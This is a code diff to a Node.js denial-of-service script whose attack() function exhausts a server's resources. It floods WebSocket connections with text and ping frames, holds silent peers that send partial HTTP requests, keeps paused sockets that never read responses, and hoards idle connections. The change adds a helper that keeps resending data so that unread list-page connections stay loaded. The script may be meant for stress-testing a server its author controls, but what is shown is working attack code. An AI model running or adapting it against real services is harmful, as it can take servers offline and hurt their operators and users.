@@ -95,12 +95,17 @@ const frame = (opcode, size) => {
 const texts = Buffer.concat(Array.from({ length: frames_at_once }, () => frame(1, frame_size)));
 const pings = Buffer.concat(Array.from({ length: frames_at_once }, () => frame(9, 125)));
 
+/** Sends `bytes` again and again. A paused socket sees only by this that the server closed it. */
+function repeat(socket, bytes, every_ms) {
+  const sending = setInterval(() => socket.writableLength === 0 && socket.write(bytes), every_ms);
+  socket.on('close', () => clearInterval(sending));
+}
+
 /** Upgrades, then sends `frames` for ever. */
 const socket_that_sends = (event, tokens, frames, reads) => (socket) => {
   socket.write(upgrade(event, one_of(tokens)));
   if (!reads) socket.pause();
-  const sending = setInterval(() => socket.writableLength === 0 && socket.write(frames), tick_ms);
-  socket.on('close', () => clearInterval(sending));
+  repeat(socket, frames, tick_ms);
 };
 
 function attack(about) {
@@ -110,7 +115,10 @@ function attack(about) {
     keep('silent peers', address, about, silent, (socket) => {
       if (crypto.randomInt(2)) socket.write('GET /livez HTTP/1.1\r\nHo');
     });
-    keep('list pages not read', address, about, reads_nothing, (socket) => socket.pause().write(list));
+    keep('list pages not read', address, about, reads_nothing, (socket) => {
+      socket.pause().write(list);
+      repeat(socket, list, 1000);
+    });
     keep('WebSockets not read', address, about, reads_nothing, socket_that_sends(line, tokens, pings, false));
     keep('WebSocket floods', address, about, flood, socket_that_sends(line, tokens, texts, true));
     keep('idle connections', address, about, hoard, (socket) =>
